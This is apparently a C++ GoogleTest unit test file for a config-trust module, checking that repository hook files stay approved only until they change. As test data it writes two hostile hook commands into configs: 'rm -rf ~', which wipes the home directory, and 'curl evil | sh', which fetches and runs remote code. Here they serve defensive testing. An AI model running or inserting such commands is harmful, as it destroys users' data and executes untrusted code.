// Tests of plugin/trust (issue 4, point 2): real config files and a real state dir.
#include "plugin/trust.hpp"

#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <string>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "plugin/config.hpp"
#include "tests/support/temp_dir.hpp"

namespace baton::plugin {
namespace {

namespace fs = std::filesystem;

class TrustTest : public ::testing::Test {
 protected:
  void SetUp() override {
    repo_ = tmp_ / "repo";
    state_ = (tmp_ / "state").string();
    fs::create_directories(repo_);
  }

  void write(const fs::path& file, const std::string& content) {
    std::ofstream(file, std::ios::binary) << content;
  }

  // As the daemon hashes them: the repository's files (outside a git repository a local file
  // cannot be known to be untracked, so it counts as the repository's).
  std::string hash() {
    auto texts = read_config_texts(repo_.string());
    EXPECT_TRUE(texts.has_value());
    return texts ? repository_config_hash(repo_.string(), *texts) : std::string();
  }

  test::TempDir tmp_dir_{"baton-trust"};
  fs::path tmp_ = tmp_dir_.path();
  fs::path repo_;
  std::string state_;
};

TEST_F(TrustTest, ConfigIsAllowedOnlyAfterAllowAndUntilItChanges) {
  write(repo_ / "baton.toml", "[hooks]\non_exit = \"echo bye\"\n");
  EXPECT_FALSE(is_allowed(state_, repo_.string(), hash()));

  ASSERT_TRUE(allow(state_, repo_.string(), hash()).has_value());
  EXPECT_TRUE(is_allowed(state_, repo_.string(), hash()));

  write(repo_ / "baton.toml", "[hooks]\non_exit = \"rm -rf ~\"\n");
  EXPECT_FALSE(is_allowed(state_, repo_.string(), hash()));
}

TEST_F(TrustTest, ChangingTheLocalFileAlsoRevokesTheAllow) {
  write(repo_ / "baton.toml", "[hooks]\non_exit = \"echo bye\"\n");
  ASSERT_TRUE(allow(state_, repo_.string(), hash()).has_value());

  write(repo_ / "baton.local.toml", "[hooks]\non_exit = \"curl evil | sh\"\n");
  EXPECT_FALSE(is_allowed(state_, repo_.string(), hash()));

  ASSERT_TRUE(allow(state_, repo_.string(), hash()).has_value());
  write(repo_ / "baton.local.toml", "[hooks]\non_exit = \"true\"\n");
  EXPECT_FALSE(is_allowed(state_, repo_.string(), hash()));
}

TEST_F(TrustTest, AllowingOneRepositoryDoesNotAllowAnother) {
  write(repo_ / "baton.toml", "[hooks]\non_exit = \"x\"\n");
  ASSERT_TRUE(allow(state_, repo_.string(), hash()).has_value());
  EXPECT_FALSE(is_allowed(state_, (tmp_ / "other").string(), hash()));
  ASSERT_TRUE(allow(state_, (tmp_ / "other").string(), "abc").has_value());
  EXPECT_TRUE(is_allowed(state_, repo_.string(), hash()));
  EXPECT_TRUE(is_allowed(state_, (tmp_ / "other").string(), "abc"));
}

TEST_F(TrustTest, AllowedFileHasTheDocumentedSchema) {
  ASSERT_TRUE(allow(state_, "/r", "0123").has_value());
  std::ifstream in(fs::path(state_) / "allowed.json");
  auto doc = nlohmann::json::parse(in);
  EXPECT_EQ(doc, (nlohmann::json{{"schema", 1}, {"allowed", {{"/r", "0123"}}}}));
}

TEST_F(TrustTest, CorruptAllowedFileAllowsNothingAndIsReplacedByAllow) {
  fs::create_directories(state_);
  write(fs::path(state_) / "allowed.json", "{\"schema\":1,\"allowed\":{\"/r\":\"01");
  EXPECT_FALSE(is_allowed(state_, "/r", "0123"));
  ASSERT_TRUE(allow(state_, "/r", "0123").has_value());
  EXPECT_TRUE(is_allowed(state_, "/r", "0123"));
}

TEST_F(TrustTest, HashIsTheHexOfAGitBlobOverPathsAndContents) {
  write(repo_ / "baton.toml", "a");
  std::string path = (repo_ / "baton.toml").string();
  auto h = config_hash({path});
  EXPECT_EQ(h.size(), 40u);
  EXPECT_EQ(h, config_hash_of_contents({{path, "a"}}));
  EXPECT_NE(h, config_hash_of_contents({{path, std::nullopt}}));
  EXPECT_NE(h, config_hash_of_contents({{path + "x", "a"}}));
}

TEST_F(TrustTest, HashMatchesWhatLoadConfigRecorded) {
  write(repo_ / "baton.toml", "[hooks]\non_exit = \"x\"\n");
  ConfigInputs in;
  in.repo_root = repo_.string();
  in.is_on_path = [](const std::string&) { return false; };
  auto cfg = load_config(in);
  ASSERT_TRUE(cfg.has_value()) << cfg.error();
  EXPECT_EQ(cfg->content_hash, hash());
}

}  // namespace
}  // namespace baton::plugin
